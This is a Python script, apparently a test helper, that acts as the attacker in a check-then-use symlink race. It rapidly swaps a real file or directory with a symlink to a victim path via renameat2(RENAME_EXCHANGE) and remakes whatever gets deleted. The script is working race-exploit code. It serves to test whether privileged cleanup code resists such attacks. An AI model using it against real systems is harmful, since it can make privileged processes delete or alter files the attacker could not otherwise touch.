#!/usr/bin/env python3
"""The attacker of a check-then-use race: swaps two names atomically, over and over, with
renameat2(RENAME_EXCHANGE). Run it as the attacking user (setpriv --reuid=65534 ...) on a
directory that user may write:

    exchange.py DIR REAL LINK KIND TARGET SECONDS

DIR/REAL starts as a real KIND (`dir`: a directory holding two lock files and cache/file;
`file`: a file holding a dead PID) and DIR/LINK as a symlink to TARGET (the victim, elsewhere); then they trade places
until SECONDS have passed or SIGTERM. Whatever the action under attack deletes is made again (a
real one where a name is missing, the symlink where it is missing), so every round is a real
race. Never writes through a symlink: new entries are made with O_EXCL / mkdir at a missing name.
Prints the number of swaps; exits 2 when the filesystem has no RENAME_EXCHANGE (the test fails:
it could not attack).
"""
import ctypes
import errno
import os
import signal
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)
renameat2 = libc.renameat2
renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]


def make_real(path: str, kind: str) -> None:
    try:
        if kind == "dir":
            os.mkdir(path)
            os.mkdir(os.path.join(path, "cache"))
            for name in ("a.lock", "b.pid", "cache/file"):
                fd = os.open(os.path.join(path, name), os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW)
                os.write(fd, b"999999\n")
                os.close(fd)
        else:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW)
            os.write(fd, b"999999\n")
            os.close(fd)
    except FileExistsError:
        pass


def main() -> int:
    d, real, link, kind, target, seconds = sys.argv[1:7]
    a, b = os.path.join(d, real), os.path.join(d, link)
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
    end = time.monotonic() + float(seconds)
    swaps = 0
    while not stop[0] and time.monotonic() < end:
        for name, other in ((a, b), (b, a)):
            if not os.path.lexists(name):
                if os.path.lexists(other) and not os.path.islink(other):
                    try:
                        os.symlink(target, name)
                    except FileExistsError:
                        pass
                else:
                    make_real(name, kind)
        if renameat2(AT_FDCWD, os.fsencode(a), AT_FDCWD, os.fsencode(b), RENAME_EXCHANGE) != 0:
            err = ctypes.get_errno()
            if err == errno.ENOENT:
                continue  # the action deleted one of them just now: made again above
            print(f"renameat2: {os.strerror(err)}", file=sys.stderr)
            return 2
        swaps += 1
    print(swaps)
    return 0


if __name__ == "__main__":
    sys.exit(main())
